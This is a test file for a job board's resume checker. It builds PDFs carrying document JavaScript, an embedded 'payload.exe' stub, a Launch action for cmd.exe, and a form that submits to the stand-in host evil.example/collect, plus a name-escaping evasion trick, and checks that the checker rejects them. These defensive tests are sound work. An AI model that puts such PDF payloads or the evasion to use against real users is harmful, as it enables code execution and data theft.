"""Resumes with script, actions that start programs or attached files are refused (issue 13, item 4);
ordinary resumes, links in them included, are taken."""

from __future__ import annotations

from collections.abc import Callable
from io import BytesIO

import pytest
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from jobboard.applications.resumes import check_resume
from jobboard.core.errors import InvalidInput
from tests.web.conftest import Fair


def pdf(change: Callable[[PdfWriter], None] = lambda writer: None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    change(writer)
    buffer = BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def open_action(kind: str, **fields: str) -> Callable[[PdfWriter], None]:
    def change(writer: PdfWriter) -> None:
        action = DictionaryObject({NameObject("/S"): NameObject(kind)})
        action.update({NameObject(f"/{key}"): TextStringObject(value) for key, value in fields.items()})
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)

    return change


def document_script(writer: PdfWriter) -> None:
    """A script run when the document opens, in the catalogue's /Names tree (what add_js used to write)."""
    action = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}
    )
    tree = DictionaryObject(
        {NameObject("/Names"): ArrayObject([TextStringObject("hi"), writer._add_object(action)])}
    )
    writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): tree})


HOSTILE = {
    "document JavaScript": document_script,
    "an attached file": lambda writer: writer.add_attachment("payload.exe", b"MZ\x90\x00"),
    "a Launch action": open_action("/Launch", F="cmd.exe"),
    "a JavaScript open action": open_action("/JavaScript", JS="app.alert(1)"),
    "a form that submits": open_action("/SubmitForm", F="https://evil.example/collect"),
}


@pytest.mark.parametrize("make", HOSTILE.values(), ids=HOSTILE.keys())
def test_active_content_is_refused(make: Callable[[PdfWriter], None]) -> None:
    with pytest.raises(InvalidInput) as refused:
        check_resume(pdf(make))
    assert refused.value.errors == {"resume": "resume_active_content"}


def test_a_name_spelt_with_escapes_is_still_seen() -> None:
    content = pdf(open_action("/JavaScript", JS="app.alert(1)")).replace(b"/JavaScript", b"/J#61vaScript")
    with pytest.raises(InvalidInput):
        check_resume(content)


def test_ordinary_resumes_and_links_are_taken() -> None:
    check_resume(pdf())
    check_resume(pdf(open_action("/URI", URI="https://www.linkedin.com/in/li-ming")))
    check_resume(pdf(lambda writer: writer.add_metadata({"/Title": "JavaScript engineer"})))


def test_the_apply_form_says_why(fair: Fair) -> None:
    job_id = fair.publish(fair.employer_b, "光学设计工程师")
    answer = fair.seeker.apply(job_id, content=pdf(HOSTILE["document JavaScript"]))
    assert answer.status_code == 400
    assert "含有脚本、动作或附件" in answer.text
